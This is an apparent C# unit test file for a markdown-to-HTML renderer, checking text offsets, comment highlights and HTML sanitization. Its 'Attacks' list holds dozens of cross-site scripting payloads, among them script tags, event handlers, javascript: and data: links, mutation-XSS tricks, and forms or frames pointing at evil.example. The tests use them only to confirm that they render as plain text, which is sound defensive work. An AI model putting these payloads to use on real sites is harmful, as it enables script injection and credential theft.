using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using LogodiConsult.Consulting.Passages;

namespace LogodiConsult.Consulting.Tests.Passages;

public sealed class RichTextTests
{
    const string Sample = """
        # Diagnóstico — 진단

        El **plan** nace en *Cusco* con `código` y un [enlace](https://example.org/a?b=1&c=2 "título").
        Segunda línea 😀 con señal: 1 < 2 & 3 > 2.

        - uno
        - dos
          - dos y medio
        - tres

        1. 첫째
        2. 둘째

        > cita de un ciudadano

        | Indicador | Meta |
        |---|---|
        | trámites | 12 |
        | 만족도 |  |

        ```
        línea 1
          línea 2
        ```

        ![mapa](https://example.org/x.png) fin
        """;

    static IDocument Parse(string html) => new HtmlParser().ParseDocument(html);

    /// <summary>Every drawn node shows exactly its slice, all slices together are the text but for white space.</summary>
    static void AssertSamePassages(RichText rich, string html)
    {
        var points = new CodePointText(rich.Canonical);
        var at = 0;
        foreach (var node in Parse(html).QuerySelectorAll("[data-o]"))
        {
            var start = int.Parse(node.GetAttribute("data-o")!, System.Globalization.CultureInfo.InvariantCulture);
            var end = start + new CodePointText(node.TextContent).Length;
            Assert.Equal(points.Slice(start, end), node.TextContent);
            Assert.True(string.IsNullOrWhiteSpace(points.Slice(at, start)), $"not drawn: '{points.Slice(at, start)}'");
            at = end;
        }
        Assert.Equal(points.Length, at);
    }

    [Fact]
    public void ToHtml_AllBlocks_DrawsTheCanonicalTextAtItsOffsets()
    {
        var rich = RichText.FromMarkdown(Sample);

        AssertSamePassages(rich, rich.ToHtml());
        Assert.StartsWith("Diagnóstico — 진단\n\nEl plan nace en Cusco con código y un enlace.\nSegunda línea 😀 con señal: 1 < 2 & 3 > 2.\n\nuno\ndos\ndos y medio\ntres", rich.Canonical);
        Assert.Contains("Indicador\tMeta\ntrámites\t12\n만족도\t", rich.Canonical);
        Assert.EndsWith("línea 1\n  línea 2\n\nmapa fin", rich.Canonical);
    }

    [Fact]
    public void ToHtml_AllBlocks_KeepsTheirElements()
    {
        var page = Parse(RichText.FromMarkdown(Sample).ToHtml());

        Assert.Equal("Diagnóstico — 진단", page.QuerySelector("h3")!.TextContent);
        Assert.Equal("https://example.org/a?b=1&c=2", page.QuerySelector("a")!.GetAttribute("href"));
        Assert.Contains("nofollow", page.QuerySelector("a")!.GetAttribute("rel"));
        Assert.Equal(4, page.QuerySelectorAll("ul > li").Length);
        Assert.Equal(2, page.QuerySelectorAll("th[scope=col]").Length);
        Assert.Empty(page.QuerySelectorAll("img"));
    }

    [Fact]
    public void FromMarkdown_DecomposedAndWindowsLines_GivesComposedTextWithPlainBreaks() =>
        Assert.Equal("gestión\n계획\n\nfin", CanonicalText.Of("gestio\u0301n\r\n\u1100\u1168\u1112\u116C\u11A8\r\n\r\nfin"));

    [Fact]
    public void FromMarkdown_DeeplyNested_IsShownAsTyped()
    {
        var bomb = new string('>', 50_000) + " x";

        Assert.Equal(bomb, RichText.FromMarkdown(bomb).Canonical);
    }

    [Theory]
    [InlineData("[a](", 2_001)]
    [InlineData("|", 10_001)]
    public void FromMarkdown_MoreLinksOrCellsThanAnybodyWrites_IsShownAsTyped(string sign, int times)
    {
        var typed = string.Concat(Enumerable.Repeat(sign, times)) + " *x*";

        Assert.Equal(typed, RichText.FromMarkdown(typed).Canonical);
    }

    public static TheoryData<string> Attacks => new(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](  javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](//evil.example/a)",
        "[x](/sign-out)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.gif)",
        "![x\" onerror=\"alert(1)](a)",
        "[x](https://a.example/\" onmouseover=\"alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](https://a.example 'a\" onclick=alert(1) b=\"')",
        "<iframe src=https://evil.example></iframe>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>*{display:none}</style>",
        "<math><mtext></table></math><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "`<script>alert(1)</script>`",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "# <object data=evil>",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\0<scr\0ipt>alert(1)</script>",
        "<p id=comment-1 name=forms>x</p>",
        "a <b onmouseover=alert(1)>b</b>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=1>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css><embed src=//evil.example/x.swf>",
        "<marquee onstart=alert(1)>x</marquee><select autofocus onfocus=alert(1)>",
        "<a href=\" &#14; javascript:alert(1)\">x</a> [x](\u0001javascript:alert(1)) [x](&#1;javascript:alert(1))",
        "[x](java%0ascript:alert(1)) [x](javascript&colon;alert(1)) [x](java&Tab;script:alert(1)) [x](java&NewLine;script:alert(1))",
        "[x](\u202Ejavascript:alert(1)) [x](ｊavascript:alert(1)) [x](javascript\u200B:alert(1))",
        "[x](<javascript:alert(1)>) [x](\\javascript:alert(1)) [x](file:///etc/passwd) [x](blob:https://a/b) [x](intent://a#Intent;end)",
        "[x](https://a.example@evil.example/) [x](http://[::1) [x](mailto:a@b?subject=<script>)",
        "<a href='mailto:a\"onclick=\"alert(1)'>x</a> <mailto:a\"onclick=alert(1)@b.c>",
        "[[x](javascript:alert(1))](https://a.example) ![[x](javascript:alert(1))](b)",
        "[x](https://a.example \"<img src=x onerror=alert(1)>\") ![a](b \"c' onerror='alert(1)\")",
        "<span id=main class=banner name=forms data-part=core data-o=0>x</span> <p id=submit-form name=cookie>",
        "<div class=\"save-bar\" style=\"position:fixed;inset:0\" onclick=alert(1)>x</div><div style=\"width:expression(alert(1))\">",
        "\u003cscript\u003ealert(1)\u003c/script\u003e ＜script＞alert(1)＜/script＞ \u2028<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E &#x3C;script&#x3E;alert(1) &#60script&#62alert(1)",
        "```html onload=alert(1) \"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
        "~~<img src=x onerror=alert(1)>~~ **<svg onload=alert(1)>** # <iframe src=javascript:alert(1)>",
        "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|--:|\n| `<svg onload=alert(1)>` | ![x](javascript:alert(1)) |",
        "[a]: <javascript:alert(1)> 'x'\n[b]: data:text/html,<script>alert(1)</script>\n\n[a] [b] ![b]");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void ToHtml_KnownAttack_StaysText(string attack)
    {
        foreach (var rich in new[] { RichText.FromMarkdown(attack), RichText.FromPlain(attack) })
        {
            var html = rich.ToHtml([new Highlight(0, 5, 1, "x\" onclick=\"alert(1)")]);
            var page = Parse(html);
            Assert.Empty(page.QuerySelectorAll("script,img,svg,iframe,style,object,embed,form,input,select,base,link,meta,math,video,audio,b"));
            foreach (var element in page.Body!.QuerySelectorAll("*"))
            {
                Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name is "style" or "src" or "name");
                Assert.Matches("^(https?:|mailto:|#comment-)|^$", element.GetAttribute("href") ?? "");
            }
            AssertSamePassages(rich, html);
        }
    }

    [Fact]
    public void ToHtml_OverlappingHighlights_MarksEachPieceWithAllItsComments()
    {
        var rich = RichText.FromMarkdown("El **plan** de acción");

        var html = rich.ToHtml([new Highlight(0, 7, 3, "question"), new Highlight(5, 14, 4, "must")]);

        var page = Parse(html);
        var marks = page.QuerySelectorAll("mark").Select(m => (m.TextContent, m.GetAttribute("data-comments")));
        Assert.Equal([("El ", "3"), ("pl", "3"), ("an", "3 4"), (" de acc", "4")], marks);
        Assert.Equal("El ", page.GetElementById("passage-3")!.TextContent);
        Assert.Equal("an", page.GetElementById("passage-4")!.TextContent);
        Assert.Equal(["#comment-3", "#comment-4"], page.QuerySelectorAll("sup a").Select(a => a.GetAttribute("href")));
        AssertSamePassages(rich, html);
    }

    [Fact]
    public void ToHtml_HighlightsWithTheSameStartOverAParagraphBorderInALink_KeepValidHtml()
    {
        var rich = RichText.FromMarkdown("[uno dos](https://example.org)\n\ntres");

        var html = rich.ToHtml([new Highlight(4, 12, 1, "a"), new Highlight(4, 7, 2, "b"), new Highlight(8, 9, 3, "nothing")]);

        var page = Parse(html);
        Assert.NotNull(page.GetElementById("passage-1"));
        Assert.NotNull(page.GetElementById("passage-2"));
        Assert.Empty(page.QuerySelectorAll("a a"));
        Assert.Equal(["2", "1"], page.QuerySelectorAll("sup").Select(s => s.TextContent));
        AssertSamePassages(rich, html);
    }

    [Fact]
    public void ToHtml_AnyMarkdownLikeText_NeverDisagreesWithItsCanonicalText() =>
        RandomTexts.Markdownish.Sample(text =>
        {
            var rich = RichText.FromMarkdown(text);
            AssertSamePassages(rich, rich.ToHtml([new Highlight(rich.Length / 3, rich.Length, 1, "x")]));
        }, iter: 300);
}
